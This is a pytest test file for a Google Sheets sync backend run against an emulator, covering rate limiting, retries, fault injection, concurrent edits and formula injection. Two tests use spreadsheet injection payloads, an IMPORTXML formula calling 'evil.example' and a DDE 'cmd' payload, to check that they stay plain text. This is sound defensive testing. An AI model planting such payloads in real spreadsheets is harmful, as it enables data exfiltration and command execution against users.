"""The Google backend against the Sheets/Drive emulator (gspread over real HTTP).

Read, write, set-up, check, the limiter and bounded retries, faults on every request kind,
edits at the worst moments of a write (promise 5), formula injection (promise 6), the
request counts of cold, idle and edit cycles, and credentials never shown in errors.
No test sleeps for real: the limiter and the retries get a fake clock.
"""

from __future__ import annotations

import csv
import datetime as dt
import json
import re
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import orjson
import pytest
from google.auth import _exponential_backoff
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.utils import get_column_letter
from sqlalchemy import select

from sheets_emulator import Emulator
from sync import agent_sheet, service
from sync.backends.google import GoogleBackend, GoogleError, backend_from_config
from sync.backends.google.api import load_credentials
from sync.backends.google.emulated import share
from sync.backends.google.values import (
    a1,
    grid_size,
    quote,
    range_start,
    split_range,
    to_api,
    value_ranges,
)
from sync.backends.google.writes import chunks, written
from sync.cells import CellWrite, cell_text
from sync.config import config_from_dict
from sync.dedupe import normalize_phone
from sync.errors import ConfigError, SourceError
from sync.importing import ImportOptions, run_import
from sync.limits import RateLimiter, RetryPolicy, parse_retry_after
from sync.long_text import GOOGLE_CELL_CHARS, shows_cut_of
from sync.master_layout import (
    EDIT_NOTE,
    EDITABLE_COLOR,
    MASTER_NOTES,
    RESOLUTION,
    RESOLUTION_HELP,
    master_headers,
)
from sync.model import Conflict, Customer, Tracking
from sync.rows import column_letter
from sync.sheets import RowMove
from tests.emulated import EmulatedGoogleBackend, GoogleHarness
from tests.scenarios.test_cycle import AHMED_ALI, AHMED_SARA
from tests.world import World

FATIMA = {"Name": "Fatima Ali", "Phone": "0111 222 3344", "Notes": "f notes"}
OMAR = {"Name": "Omar Hassan", "Phone": "0122 333 4455", "Notes": "o notes"}
AHMED = {"Name": "Ahmed Mohamed", "Phone": "0100 123 4567", "Notes": "a notes"}


class FakeTime:
    """A clock that only moves when something sleeps."""

    def __init__(self) -> None:
        self.now = 1000.0
        self.slept: list[float] = []

    def clock(self) -> float:
        return self.now

    def sleep(self, seconds: float) -> None:
        self.slept.append(seconds)
        self.now += seconds


@pytest.fixture(params=["sqlite"])
def db_kind(request: pytest.FixtureRequest) -> str:
    """SQLite only: the database half is covered by the core tests."""
    return str(request.param)


@pytest.fixture
def emu() -> Iterator[Emulator]:
    with Emulator(seed=5) as emulator:
        yield emulator
        emulator.wait_idle()


@pytest.fixture
def fake() -> FakeTime:
    return FakeTime()


def google_world(
    engine: Any,
    emu: Emulator,
    fake: FakeTime,
    agents: tuple[str, ...] = ("ali", "sara"),
    **google: Any,
) -> World:
    harness = GoogleHarness(emu, options={"clock": fake.clock, "sleep": fake.sleep}, **google)
    return World(engine, agents, harness=harness)


@pytest.fixture
def world(engine: Any, emu: Emulator, fake: FakeTime) -> World:
    return google_world(engine, emu, fake)


def sid(world: World, agent: str) -> str:
    return world.backend.spec(world.source(agent)).spreadsheet


def row_of(world: World, agent: str, name: str) -> dict[str, str]:
    return next(r for r in world.rows(agent) if r["Name"] == name)


# ---------------------------------------------------------------------------------------------
# values and ranges
# ---------------------------------------------------------------------------------------------


def test_a1_helpers() -> None:
    assert quote("Follow-ups") == "'Follow-ups'" and quote("I'm") == "'I''m'"
    assert a1("Customers", 4, 2) == "'Customers'!C5"
    assert a1("Customers", 1, 0, 3, 28) == "'Customers'!A2:AC4"
    assert split_range("'I''m'!A1:B2") == ("I'm", "A1:B2")
    assert split_range("Sheet1!A1") == ("Sheet1", "A1")
    assert grid_size("'Follow-ups'!A1:AC1000") == (1000, 29)
    assert range_start("'Tab'!C5:D9") == ("Tab", 4, 2)


def test_value_ranges_group_cells_and_leave_the_holes_alone() -> None:
    cells = [
        ("T", 1, 0, "a"),
        ("T", 1, 2, None),  # cleared: "" (null would leave the cell alone)
        ("T", 2, 0, "b"),
        ("T", 2, 2, 3.0),
        ("T", 2, 20, dt.date(2026, 1, 15)),
        ("U", 0, 1, True),
    ]
    out = value_ranges(cells)
    assert out == [
        {
            "range": "'T'!A2:C3",
            "majorDimension": "ROWS",
            "values": [["a", None, ""], ["b", None, 3]],
        },
        {"range": "'T'!U3", "majorDimension": "ROWS", "values": [["2026-01-15"]]},
        {"range": "'U'!B1", "majorDimension": "ROWS", "values": [[True]]},
    ]
    whole = value_ranges(cells[:2], widths={"T": 5})
    assert whole == [
        {"range": "'T'!A2:E2", "majorDimension": "ROWS", "values": [["a", None, "", None, None]]}
    ]
    assert to_api("=IMPORTXML(1)") == "=IMPORTXML(1)" and to_api(5.0) == 5


API_VALUES = st.one_of(st.none(), st.text(max_size=12), st.integers(-(10**9), 10**9), st.booleans())


@settings(max_examples=150, deadline=None)
@given(
    tabs=st.lists(
        st.tuples(
            st.sampled_from(["T", "Customers", "عملاء"]),
            st.integers(0, 4),
            st.integers(0, 3),
            st.lists(st.lists(API_VALUES, min_size=1, max_size=6), min_size=1, max_size=30),
        ),
        min_size=1,
        max_size=3,
    ),
    budget=st.integers(10, 300),
)
def test_chunks_keep_every_cell_where_it_was_within_the_budget(
    tabs: list[tuple[str, int, int, list[list[Any]]]], budget: int
) -> None:
    ranges = [
        {
            "range": a1(title, top, left, top + len(rows) - 1, left + max(map(len, rows)) - 1),
            "majorDimension": "ROWS",
            "values": rows,
        }
        for title, top, left, rows in tabs
    ]
    requests = chunks(ranges, budget)
    sent = [vr for request in requests for vr in request]
    assert written(sent, {}) == written(ranges, {})  # in order: the last value given wins
    for request in requests:
        size = sum(len(orjson.dumps(vr["values"])) for vr in request)
        assert size <= budget or (len(request) == 1 and len(request[0]["values"]) == 1)


# ---------------------------------------------------------------------------------------------
# the limiter and the retry policy
# ---------------------------------------------------------------------------------------------


def test_rate_limiter_never_lets_a_minute_exceed_the_quota(fake: FakeTime) -> None:
    limiter = RateLimiter(60, clock=fake.clock, sleep=fake.sleep)
    stamps = []
    for i in range(200):
        fake.now += 0.1 if i % 7 else 3.0  # bursts and pauses
        limiter.acquire()
        stamps.append(fake.now)
    for i, start in enumerate(stamps):
        in_window = [s for s in stamps[i:] if s < start + 60.0 - 1e-6]  # float noise
        assert len(in_window) <= 60
    assert sum(fake.slept) > 0 and all(s > 0 for s in fake.slept)  # it waited, not exceeded


def test_rate_limiter_holds_across_threads() -> None:
    limiter = RateLimiter(4, window=0.3)
    stamps: list[float] = []
    lock = threading.Lock()

    def worker() -> None:
        for _ in range(3):
            limiter.acquire()
            with lock:
                stamps.append(time.monotonic())

    threads = [threading.Thread(target=worker) for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    stamps.sort()
    assert len(stamps) == 12
    for i, start in enumerate(stamps):
        assert len([s for s in stamps[i:] if s < start + 0.3 - 0.01]) <= 4


def test_retry_policy_is_bounded_exponential_with_jitter_and_honours_retry_after() -> None:
    slept: list[float] = []
    policy = RetryPolicy(max_retries=4, base=1.0, cap=5.0, sleep=slept.append)
    delays = [policy.delay(n) for n in range(6)]
    for n, d in enumerate(delays):
        full = min(5.0, 2.0**n)
        assert full / 2 <= d <= full
    assert policy.delay(0, retry_after=7.0) == 7.0
    assert policy.delay(0, retry_after=1e6) == policy.max_retry_after

    calls = []

    def always_busy() -> None:
        calls.append(1)
        raise TimeoutError("busy")

    from sync.limits import Transient

    with pytest.raises(TimeoutError):
        policy.run(always_busy, lambda exc: Transient(503, 2.0))
    assert len(calls) == 5 and slept == [2.0, 2.0, 2.0, 2.0]
    assert parse_retry_after("3") == 3.0
    assert parse_retry_after("Wed, 21 Oct 2015 07:28:00 GMT", now=1445412470.0) == 10.0
    assert parse_retry_after("soon") is None


# ---------------------------------------------------------------------------------------------
# read and write
# ---------------------------------------------------------------------------------------------


def test_read_is_one_batch_get_of_the_known_tabs_with_raw_values(
    world: World, emu: Emulator
) -> None:
    world.type_rows("ali", [{"Name": "Z", "Phone": "0100 123 4567", "Graduation year": 2020}])
    world.type_rows("ali", [{"Phone": "01001234567", "Date": dt.date(2026, 1, 10)}], "Follow-ups")
    emu.reset_counts()
    snapshot = world.backend.read(world.source("ali"))
    assert emu.counts == {"sheets.values.batchGet": 1, "drive.files.get": 1}
    assert set(snapshot.tabs) == {"Customers", "Follow-ups", "Check"}
    row = snapshot.tabs["Customers"][1]
    assert row[2] == "0100 123 4567" and 2020 in row
    assert snapshot.tabs["Follow-ups"][1][3] == 46032  # a date as Sheets stores it (serial)
    assert snapshot.version == emu.file(sid(world, "ali"))["version"]


def test_a_missing_tab_costs_one_listing_and_is_left_out(world: World, emu: Emulator) -> None:
    world.backend.delete_tab(world.source("ali"), "Follow-ups")
    emu.reset_counts()
    snapshot = world.backend.read(world.source("ali"))
    assert set(snapshot.tabs) == {"Customers", "Check"}
    assert emu.counts["sheets.values.batchGet"] == 2 and emu.counts["sheets.spreadsheets.get"] == 1


def test_write_is_one_raw_batch_update_and_formulas_stay_text(world: World, emu: Emulator) -> None:
    source = world.source("ali")
    world.type_rows("ali", [{"Name": "Ahmed", "Phone": "0100 123 4567"}])
    snapshot = world.backend.read(source)
    payloads = ['=IMPORTXML("http://evil.example/x","//a")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]
    writes = [
        CellWrite("Customers", 0, col, 1, "", value, (("Phone", "0100 123 4567"),))
        for col, value in zip(
            ("Notes", "Technical opinion", "Counselor notes"), payloads, strict=True
        )
    ]
    writes.append(CellWrite("Customers", 0, "Next follow-up", 1, "", dt.date(2026, 1, 15)))
    emu.reset_counts()
    result = world.backend.write(source, writes, read_version=snapshot.version)
    assert (result.applied, result.skipped, result.concurrent) == (4, [], False)
    assert emu.counts == {
        "sheets.values.batchGet": 1,  # re-validation
        "sheets.values.batchUpdate": 1,
        "drive.files.get": 1,  # the version our write produced
    }
    assert result.version == emu.file(sid(world, "ali"))["version"]
    grid = emu.spreadsheet(sid(world, "ali"), grid_data=True)
    cells = next(s for s in grid["sheets"] if s["properties"]["title"] == "Customers")
    stored = [c.get("userEnteredValue") for c in cells["data"][0]["rowData"][1]["values"]]
    for payload in payloads:
        assert {"stringValue": payload} in stored  # text, never {"formulaValue": ...}
    assert all("formulaValue" not in (v or {}) for v in stored)
    assert "2026-01-15" in world.rows("ali")[0].values()


def test_write_skips_cells_changed_since_the_read_and_says_concurrent(
    world: World, emu: Emulator
) -> None:
    source = world.source("ali")
    world.type_rows("ali", [{"Name": "Ahmed", "Phone": "0100 123 4567"}])
    snapshot = world.backend.read(source)
    world.edit("ali", {"Name": "Ahmed"}, {"Notes": "typed meanwhile"})
    anchor = (("Phone", "0100 123 4567"),)
    result = world.backend.write(
        source,
        [
            CellWrite("Customers", 0, "Notes", 1, "", "from sync", anchor),
            CellWrite("Customers", 0, "Customer #", 1, "", "CUS-1", anchor),
        ],
        read_version=snapshot.version,
    )
    assert [reason for _, reason in result.skipped] == ["changed since read"]
    assert result.concurrent and result.applied == 1
    row = world.rows("ali")[0]
    assert row["Notes"] == "typed meanwhile" and row["Customer #"] == "CUS-1"


def test_appending_past_the_grid_grows_it_once(world: World, emu: Emulator) -> None:
    source = world.source("ali")
    rows = [{"Name": f"C{i}", "Phone": f"0100{i:07d}"} for i in range(999)]
    world.type_rows("ali", rows)  # header + 999 rows: the 1,000-row grid is full
    snapshot = world.backend.read(source)
    emu.reset_counts()
    result = world.backend.write(
        source,
        [CellWrite("Customers", 0, "Name", None, "", f"New {i}", group=str(i)) for i in range(3)],
        read_version=snapshot.version,
    )
    assert result.applied == 3
    assert emu.counts["sheets.spreadsheets.batchUpdate"] == 1  # appendDimension
    assert emu.counts["sheets.values.batchUpdate"] == 1
    assert [r["Name"] for r in world.rows("ali")[-3:]] == ["New 0", "New 1", "New 2"]


def test_a_cell_past_the_grids_columns_grows_them_first(world: World, emu: Emulator) -> None:
    source = world.source("ali")
    world.type_rows("ali", [FATIMA])
    snapshot = world.backend.read(source)
    props = world.backend._sheet(source, "Customers")[1]
    assert props is not None
    columns = props["gridProperties"]["columnCount"]
    emu.reset_counts()
    version = world.backend.set_cells(
        source, [("Customers", 1, columns + 1, "past the grid")], version=snapshot.version
    )
    assert version is not None
    assert emu.counts["sheets.spreadsheets.batchUpdate"] == 1  # appendDimension COLUMNS
    assert world.backend.get_tab(source, "Customers")[1][columns + 1] == "past the grid"
    grown = world.backend._sheet(source, "Customers")[1]
    assert grown is not None and grown["gridProperties"]["columnCount"] == columns + 2


def test_rows_deleted_then_a_cell_at_the_old_last_row_grows_the_grid(
    world: World, emu: Emulator
) -> None:
    # The grid is 1,000 rows; one row taken out leaves 999: a cell set in the 1,000th row
    # after that needs the grid grown first (what is kept of its size follows the move).
    source = world.source("ali")
    world.type_rows("ali", [{"Name": f"C{i}", "Phone": f"0100{i:07d}"} for i in range(999)])
    snapshot = world.backend.read(source)
    version = world.backend.set_cells(
        source,
        [("Customers", 999, 1, "the last row")],
        version=snapshot.version,
        moves=[RowMove("Customers", 1, -1)],
    )
    assert version is not None
    rows = world.backend.get_tab(source, "Customers")
    assert cell_text(rows[1][1]) == "C1"  # C0's row was taken out
    assert rows[999][1] == "the last row"


# ---------------------------------------------------------------------------------------------
# retries and faults
# ---------------------------------------------------------------------------------------------


def test_bounded_retries_then_an_error_with_googles_status_and_message(
    world: World, emu: Emulator, fake: FakeTime
) -> None:
    emu.faults.add("values.batchGet", 503, times=None, message="The service is unavailable.")
    emu.reset_counts()
    with pytest.raises(GoogleError) as info:
        world.backend.read(world.source("ali"))
    assert info.value.status == 503 and "The service is unavailable." in str(info.value)
    assert "agent ali" in str(info.value)
    assert emu.counts["sheets.values.batchGet"] == 6  # 1 + max_retries (5)
    assert len(fake.slept) == 5


def test_retry_after_is_honoured(world: World, emu: Emulator, fake: FakeTime) -> None:
    emu.faults.add("values.batchGet", 429, retry_after=7, times=2)
    world.backend.read(world.source("ali"))
    assert fake.slept == [7.0, 7.0]


def test_not_found_fails_at_once_with_a_hint(world: World, emu: Emulator) -> None:
    emu.reset_counts()
    with pytest.raises(SourceError) as info:
        world.backend.fingerprint("1NoSuchSpreadsheet")
    assert "not found, or not shared with emulator@sheetsync.local" in str(info.value)
    assert emu.counts == {"drive.files.get": 1}


def test_the_limiter_waits_instead_of_collecting_429s(
    engine: Any, emu: Emulator, fake: FakeTime
) -> None:
    world = google_world(engine, emu, fake, read_per_minute=2)
    emu.reset_counts()
    start = fake.now
    for _ in range(3):
        world.backend.read(world.source("ali"))
    assert emu.counts["sheets.values.batchGet"] == 3
    assert fake.now - start >= 60.0 - 1e-6  # the third read waited for the window
    assert world.backend.api.limits.read.in_window() <= 2


def test_a_lost_answer_is_checked_not_resent(world: World, emu: Emulator) -> None:
    source = world.source("ali")
    world.type_rows("ali", [{"Name": "Ahmed", "Phone": "0100 123 4567"}])
    snapshot = world.backend.read(source)
    emu.faults.add("values.batchUpdate", 500, when="after")  # applied, answer lost
    writes = [CellWrite("Customers", 0, "Name", None, "", "Appended once", group="g")]
    result = world.backend.write(source, writes, read_version=snapshot.version)
    assert result.applied == 1 and result.concurrent
    assert [r["Name"] for r in world.rows("ali")] == ["Ahmed", "Appended once"]

    emu.faults.add("values.batchUpdate", 503)  # refused before applying: redone
    writes = [CellWrite("Customers", 0, "Name", None, "", "Appended again", group="h")]
    world.backend.write(source, writes, read_version=None)
    assert [r["Name"] for r in world.rows("ali")] == ["Ahmed", "Appended once", "Appended again"]
    assert emu.count("sheets.values.batchUpdate") == 3  # lost, refused, redone


def tighten(world: World, seconds: float = 0.3) -> None:
    """A short client timeout from now on (init ran with the normal one)."""
    world.backend.api.http.set_timeout(seconds)


def test_a_timed_out_write_lands_once(world: World, emu: Emulator) -> None:
    tighten(world)
    source = world.source("ali")
    world.type_rows("ali", [{"Name": "Ahmed", "Phone": "0100 123 4567"}])
    snapshot = world.backend.read(source)
    emu.faults.timeout("values.batchUpdate", delay=0.8)
    writes = [CellWrite("Customers", 0, "Name", None, "", "Late", group="g")]
    world.backend.write(source, writes, read_version=snapshot.version)
    assert emu.wait_idle(5)
    assert [r["Name"] for r in world.rows("ali")] == ["Ahmed", "Late"]


# -- every request kind of a cycle, every fault: nothing lost, the same end state ------------

KINDS = [
    "oauth.token",
    "drive.changes.getStartPageToken",
    "drive.changes.list",
    "drive.files.get",
    "sheets.values.batchGet",
    "sheets.values.batchUpdate",
]
FAULTS = {
    "429": {"status": 429, "retry_after": 1},
    "500": {"status": 500},
    "503": {"status": 503},
    "timeout": {"status": None, "delay": 0.8},
    "lost answer": {"status": 500, "when": "after"},
}


def _service_account_file(tmp_path: Path) -> Path:
    pytest.importorskip("cryptography")
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import rsa

    key = rsa.generate_private_key(public_exponent=65537, key_size=1024)
    pem = key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    ).decode()
    path = tmp_path / "sa.json"
    path.write_text(
        json.dumps(
            {
                "type": "service_account",
                "project_id": "p",
                "private_key_id": "k",
                "private_key": pem,
                "client_email": "sync@p.iam.gserviceaccount.com",
                "client_id": "1",
                "token_uri": "https://oauth2.googleapis.com/token",
            }
        )
    )
    return path


def scenario(world: World, before_cycle: Callable[[int], None] = lambda n: None) -> None:
    """Two agents type, a cycle; an edit, a cycle; then two clean cycles."""
    sources = [world.source(a) for a in ("ali", "sara")] + [world.master]

    def cycle(n: int) -> None:
        before_cycle(n)
        world.backend.prefetch_fingerprints(sources)  # what a cycle hook would do
        world.cycle()

    world.type_rows("ali", [AHMED_ALI, FATIMA])
    world.type_rows("sara", [AHMED_SARA])
    cycle(0)
    world.edit("ali", {"Name": "Fatima Ali"}, {"Status": "Negotiating", "Email": "f@example.com"})
    world.type_rows("sara", [OMAR])
    cycle(1)
    cycle(2)
    cycle(3)


def end_state(world: World) -> dict[str, Any]:
    """The database and every sheet, without what depends on time (the Sync log)."""
    with world.session() as s:
        customers = sorted(
            (c.number, c.phone, c.name, c.email) for c in s.execute(select(Customer)).scalars()
        )
        trackings = sorted(
            (t.agent.key, t.customer.number, t.status, t.notes, t.active)
            for t in s.execute(select(Tracking)).scalars()
        )
    sheets = {a: world.rows(a) for a in ("ali", "sara")}
    stamp = re.compile(r"^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$")  # when a row changed
    master = {
        tab: [
            ["<time>" if stamp.match(cell_text(c)) else cell_text(c) for c in row]
            for row in world.backend.get_tab(world.master, tab)
        ]
        for tab in ("Customers", "Tracking", "Follow-ups", "Conflicts", "Commission")
    }
    return {"customers": customers, "trackings": trackings, "sheets": sheets, "master": master}


@pytest.fixture(scope="module")
def reference(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """The end state of the scenario without any fault."""
    from sync.db import make_engine
    from sync.schema import upgrade_schema

    path = tmp_path_factory.mktemp("reference")
    engine = make_engine(f"sqlite:///{path / 'ref.db'}")
    upgrade_schema(engine)
    with Emulator(seed=5) as emu:
        world = google_world(
            engine, emu, FakeTime(), credentials_file=str(_service_account_file(path))
        )
        scenario(world)
        return end_state(world)


def test_agents_sharing_one_spreadsheet_end_where_agents_with_their_own_end(
    engine: Any, emu: Emulator, tmp_path: Path, reference: dict[str, Any]
) -> None:
    # Each agent's tabs have titles of their own ("Ali", "Ali follow-ups", "Ali check"):
    # every read and write goes to the agent's titles, never to another agent's tabs.
    world = google_world(
        engine,
        emu,
        FakeTime(),
        credentials_file=str(_service_account_file(tmp_path)),
        one_spreadsheet=True,
        share=False,
    )
    assert len({sid(world, a) for a in ("ali", "sara")}) == 1
    scenario(world)
    assert end_state(world) == reference
    titles = {s["properties"]["title"] for s in emu.spreadsheet(sid(world, "ali"))["sheets"]}
    assert "Customers" not in titles


@pytest.mark.parametrize("fault", list(FAULTS))
def test_a_fault_on_every_request_kind_loses_nothing(
    engine: Any,
    emu: Emulator,
    tmp_path: Path,
    reference: dict[str, Any],
    fault: str,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Each request kind of a cycle fails once in the cold cycle and once in the edit cycle
    (the token endpoint once); the cycles retry, and end where a fault-free run ends."""
    fake = FakeTime()
    # google-auth asks for a token again after a sleep of its own (about a second): the
    # fake clock takes that sleep too.
    monkeypatch.setattr(_exponential_backoff, "time", SimpleNamespace(sleep=fake.sleep))
    world = google_world(engine, emu, fake, credentials_file=str(_service_account_file(tmp_path)))
    if fault == "timeout":
        tighten(world)  # only here: a loaded machine may exceed a short timeout anywhere
    spec = dict(FAULTS[fault])
    status = spec.pop("status")
    kinds = KINDS if fault != "lost answer" else ["sheets.values.batchUpdate"]
    faults = []

    def inject(n: int) -> None:
        if n not in (0, 1):  # the cold cycle and the edit cycle
            return
        for kind in kinds:
            if kind in ("oauth.token", "drive.changes.getStartPageToken") and n == 1:
                continue  # asked for once per run (a token lasts an hour)
            if kind == "oauth.token":
                world.backend.api.http.session.credentials.token = None  # expired: refresh
            faults.append(emu.faults.add(kind, status, times=1, **spec))

    scenario(world, inject)
    emu.wait_idle(5)
    assert end_state(world) == reference
    fired = {kind: sum(f.hits for f in faults if f.kind == kind) for kind in kinds}
    assert all(fired.values()), fired  # every kind failed at least once


@pytest.mark.parametrize(
    "kind", ["sheets.values.batchGet", "sheets.values.batchUpdate", "drive.files.get"]
)
def test_a_lasting_outage_fails_the_source_then_the_next_cycle_catches_up(
    engine: Any, emu: Emulator, fake: FakeTime, reference: dict[str, Any], kind: str
) -> None:
    world = google_world(engine, emu, fake)
    outage: list[Any] = []

    def before(n: int) -> None:
        emu.faults.clear()
        if n == 0:  # Ali's spreadsheet answers 503 for the whole cold cycle
            ali = sid(world, "ali")
            outage.append(
                emu.faults.add(kind, 503, times=None, match=lambda r: r.params.get("id") == ali)
            )

    report_of: dict[int, Any] = {}
    original = world.cycle

    def cycle() -> Any:
        report_of[len(report_of)] = report = original()
        return report

    world.cycle = cycle  # type: ignore[method-assign]
    scenario(world, before)
    assert report_of[0].agents_failed == 1 and "503" in report_of[0].failures["ali"]
    state = end_state(world)
    assert state["customers"] == reference["customers"]
    assert state["trackings"] == reference["trackings"]
    assert state["sheets"] == reference["sheets"]


# ---------------------------------------------------------------------------------------------
# promise 5 at the worst moments
# ---------------------------------------------------------------------------------------------


def edit_cells(world: World, emu: Emulator, how: str) -> None:
    """What Ali does to his sheet while the cycle writes to it."""
    ali = sid(world, "ali")
    sheet = world.backend._sheet(world.source("ali"), "Customers")[1]
    assert sheet is not None
    rows = {"sheetId": sheet["sheetId"], "dimension": "ROWS"}
    if how == "insert a row above":
        emu.batch_update(
            ali, [{"insertDimension": {"range": {**rows, "startIndex": 1, "endIndex": 2}}}]
        )
    elif how == "delete a row above":
        emu.batch_update(
            ali, [{"deleteDimension": {"range": {**rows, "startIndex": 1, "endIndex": 2}}}]
        )
    elif how == "sort":
        emu.batch_update(
            ali,
            [
                {
                    "sortRange": {
                        "range": {"sheetId": sheet["sheetId"], "startRowIndex": 1},
                        "sortSpecs": [{"dimensionIndex": 2, "sortOrder": "ASCENDING"}],
                    }
                }
            ],
        )
    elif how == "type in a target cell":
        world.edit("ali", {"Name": "Ahmed Mohamed"}, {"Email": "ali.typed@example.com"})


EDITS = ["insert a row above", "delete a row above", "sort", "type in a target cell"]


@pytest.mark.parametrize(
    ("how", "moment"),
    [(how, "before the re-validation") for how in EDITS]
    # A value typed into the very cell being written, while Google processes the write,
    # is the one race no Sheets API can refuse (there is no conditional write): see
    # docs/google.md. Rows moving at that instant are caught and undone:
    + [(how, "as the write is sent") for how in EDITS[:3]],
)
def test_edits_while_the_cycle_writes_never_land_on_the_wrong_row(
    world: World, emu: Emulator, how: str, moment: str
) -> None:
    world.type_rows("ali", [FATIMA, OMAR, AHMED])
    world.cycle()
    # Sara types Ahmed too, with his email: the next cycle fills Ali's row (Email, Also
    # tracked by) — the writes Ali's edit races with.
    world.type_rows("sara", [{**AHMED_SARA, "Email": "ahmed@example.com"}])
    ali = sid(world, "ali")
    if moment == "before the re-validation":

        def before_write(source: str) -> None:
            if source == world.source("ali"):
                world.backend.before_write = None
                edit_cells(world, emu, how)

        world.backend.before_write = before_write
    else:
        fired: list[int] = []

        def hook(kind: str, request: Any) -> None:
            if request.params.get("id") == ali and not fired:
                fired.append(1)
                edit_cells(world, emu, how)

        emu.before_request(hook, kind="sheets.values.batchUpdate")
    world.cycle()
    world.cycle()
    world.cycle()

    rows = {r["Name"]: r for r in world.rows("ali")}
    gone = {"delete a row above": "Fatima Ali"}.get(how)
    assert set(rows) == {"Fatima Ali", "Omar Hassan", "Ahmed Mohamed"} - {gone}
    with world.session() as s:
        phones = dict(s.execute(select(Customer.number, Customer.phone)).all())
    for name, row in rows.items():  # every row keeps its own values and its own customer
        typed = {"Fatima Ali": FATIMA, "Omar Hassan": OMAR, "Ahmed Mohamed": AHMED}[name]
        assert (row["Phone"], row["Notes"]) == (typed["Phone"], typed["Notes"])
        assert phones[row["Customer #"]].endswith(typed["Phone"].replace(" ", "")[1:])
    ahmed = rows["Ahmed Mohamed"]
    assert ahmed["Also tracked by"].startswith("Sara Ahmed (since ")
    if how == "type in a target cell":
        assert ahmed["Email"] == "ali.typed@example.com"  # never overwritten
        assert "awaits an admin" in ahmed["Sync notes"]
    else:
        assert ahmed["Email"] == "ahmed@example.com"
        assert ahmed["Sync notes"] == ""
    for name in set(rows) - {"Ahmed Mohamed"}:
        assert rows[name]["Also tracked by"] == "" and rows[name]["Email"] == ""


@pytest.mark.parametrize("how", EDITS[:3])
def test_rows_moved_between_the_parts_of_a_big_write_are_put_back(
    world: World, emu: Emulator, how: str
) -> None:
    # A write past max_payload (2 MB; a cold master's 56 MB) goes in parts: rows that move
    # after the first part are caught by the next part's answer like any other move.
    typed = [FATIMA, OMAR, AHMED] + [
        {"Name": f"Customer {n}", "Phone": f"0100 555 00{n:02}", "Notes": f"n{n}"} for n in range(5)
    ]
    world.type_rows("ali", typed)
    world.backend.max_payload = 120  # Ali's write-back goes in several parts
    ali = sid(world, "ali")
    parts: list[int] = []

    def hook(kind: str, request: Any) -> None:
        if request.params.get("id") == ali:
            parts.append(1)
            if len(parts) == 2:
                edit_cells(world, emu, how)

    entry = emu.before_request(hook, kind="sheets.values.batchUpdate")
    world.cycle()
    assert len(parts) > 2  # the first write-back was sent in parts
    emu.faults.remove(entry)
    world.cycle()
    world.cycle()

    rows = {r["Name"]: r for r in world.rows("ali")}
    gone = {"delete a row above": "Fatima Ali"}.get(how)
    assert set(rows) == {t["Name"] for t in typed} - {gone}
    with world.session() as s:
        phones = dict(s.execute(select(Customer.number, Customer.phone)).all())
    for row in rows.values():  # every row keeps its own values and its own customer
        mine = next(t for t in typed if t["Name"] == row["Name"])
        assert (row["Phone"], row["Notes"]) == (mine["Phone"], mine["Notes"])
        assert phones[row["Customer #"]].endswith(mine["Phone"].replace(" ", "")[1:])
    emu.reset_counts()
    world.cycle()
    assert not any(k.startswith("sheets.") for k in emu.counts)  # idle: all was ours


# ---------------------------------------------------------------------------------------------
# promise 6: formula injection
# ---------------------------------------------------------------------------------------------


def test_formula_like_text_arrives_as_text_in_the_master_and_never_in_another_agents_sheet(
    world: World, emu: Emulator
) -> None:
    payloads = {
        "Name": '=IMPORTXML("http://evil.example/x","//a")',
        "Notes": "+cmd|' /C calc'!A0",
        "Technical opinion": "@SUM(1+1)",
    }
    world.type_rows("ali", [{**payloads, "Phone": "01001234567"}])
    world.type_rows("sara", [{"Phone": "0100 123 4567", "Notes": "sara's own"}])
    world.cycle()

    def stored(spreadsheet: str) -> list[dict[str, Any]]:
        data = emu.spreadsheet(spreadsheet, grid_data=True)
        return [
            cell.get("userEnteredValue") or {}
            for sheet in data["sheets"]
            for part in sheet.get("data", [])
            for row in part.get("rowData", [])
            for cell in row.get("values", [])
        ]

    master = stored(world.config.master.spreadsheet)
    assert {"stringValue": payloads["Name"]} in master
    assert {"stringValue": payloads["Notes"]} in master  # Tracking tab: Ali's notes, as text
    assert {"stringValue": payloads["Technical opinion"]} in master
    sara = stored(sid(world, "sara"))
    assert {"stringValue": payloads["Name"]} in sara  # shared name: shown as text
    texts = {v.get("stringValue") for v in sara}
    assert payloads["Notes"] not in texts and payloads["Technical opinion"] not in texts
    for cells in (master, sara):
        assert not [v for v in cells if "formulaValue" in v]
    # and what Sheets shows (UNFORMATTED) is the text, not an evaluated #NAME?
    shown = emu.get_values(world.config.master.spreadsheet, "Customers", "UNFORMATTED_VALUE")
    assert payloads["Name"] in [c for row in shown for c in row]


def test_a_value_longer_than_a_google_cell_is_written_cut_and_kept_whole(
    world: World, emu: Emulator, tmp_path: Path
) -> None:
    notes = "".join(f"{i:06d} " for i in range(10_000)).strip() + "."  # 69,999 characters
    path = tmp_path / "team.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(
            [["Agent", "Name", "Phone", "Counselor notes"], ["ali", "Ahmed", "01001234567", notes]]
        )
    run_import(world.config, world.engine, ImportOptions(source=str(path)))

    report = world.cycle()  # Google refuses a whole write holding a cell over 50,000

    assert report.agents_failed == 0 and not report.failures
    with world.session() as s:
        assert s.execute(select(Tracking)).scalar_one().counselor_notes == notes
    (row,) = world.rows("ali")
    shown = row["Counselor notes"]
    assert len(shown) <= GOOGLE_CELL_CHARS and shows_cut_of(shown, notes)
    assert f"sheetsync history {row['Customer #']}" in row["Sync notes"]
    tracking = emu.get_values(world.config.master.spreadsheet, "Tracking", "UNFORMATTED_VALUE")
    assert [c for r in tracking for c in r if isinstance(c, str) and shows_cut_of(c, notes)]
    assert world.cycle().cells_written == 0
    with world.session() as s:
        assert s.execute(select(Tracking)).scalar_one().counselor_notes == notes


def test_init_rebuilds_a_deleted_google_tab_from_the_database(world: World, emu: Emulator) -> None:
    world.type_rows("ali", [AHMED, FATIMA, OMAR])
    world.type_rows("sara", [{"Phone": "0100 123 4567", "Notes": "sara's"}])
